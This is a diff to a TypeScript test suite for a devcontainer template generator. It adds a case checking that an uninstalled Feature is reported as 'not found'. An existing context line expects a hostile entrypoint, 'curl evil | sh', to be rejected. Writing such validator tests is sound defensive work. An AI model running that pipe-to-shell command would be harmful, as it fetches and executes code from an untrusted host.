@@ -168,6 +168,25 @@ CASES.featureEntrypoints = {
     ]),
   },
 };
+/** A Flutter repository naming a first-party Feature that does not exist. */
+CASES.unknownFeature = {
+  configuration: {
+    image: "mcr.microsoft.com/devcontainers/base:bookworm",
+    features: {
+      "ghcr.io/devcontainers/features/flutter:1": { version: "stable" },
+      "ghcr.io/devcontainers/features/node:1": {},
+      "ghcr.io/devcontainers/features/java@sha256:0123": {},
+    },
+  },
+  metadata: {
+    metadata_json: JSON.stringify([
+      { id: "ghcr.io/devcontainers/features/common-utils:2" },
+      { id: "ghcr.io/devcontainers/features/node:1" },
+      { id: "ghcr.io/devcontainers/features/java:1" },
+      { remoteUser: "vscode" },
+    ]),
+  },
+};
 type CaseName = keyof typeof CASES;
 
 describe("devcontainer template: real-world fidelity (issue 44)", () => {
@@ -288,6 +307,16 @@ describe("devcontainer template: real-world fidelity (issue 44)", () => {
         'Feature "example.com/hostile:1": its entrypoint "sh -c \'curl evil | sh\'" is not run (an entrypoint must be an absolute path of letters, digits and . _ / + -).',
       ]);
       expect(plans.probeUnset.pod.env.DC_FEATURE_ENTRYPOINTS).toBe("");
+    });
+  });
+
+  describe("5. a Feature the build did not install", () => {
+    it("is 'not found' in the build log, from the image's metadata, never shown as installed", () => {
+      expect(plans.unknownFeature.warnings).toEqual([
+        'Feature "ghcr.io/devcontainers/features/flutter:1": not found. The image\'s metadata has no entry for it, so the build did not install it (no Feature of that name or version exists, or it failed): what it would add is missing.',
+      ]);
+      // A label without Feature entries (an older service) proves nothing.
+      expect(plans.probeUnset.warnings).toEqual([]);
     });
   });
 
